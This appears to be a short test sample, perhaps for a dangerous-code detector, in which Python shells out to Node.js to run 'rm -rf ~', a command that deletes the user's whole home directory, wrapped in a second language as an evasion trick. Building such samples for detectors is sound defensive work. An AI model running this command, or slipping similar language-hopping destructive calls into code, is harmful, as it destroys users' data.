# tricky: another language does it
import os
os.system("""node -e "require('child_process').execSync('rm -rf ~')" """)
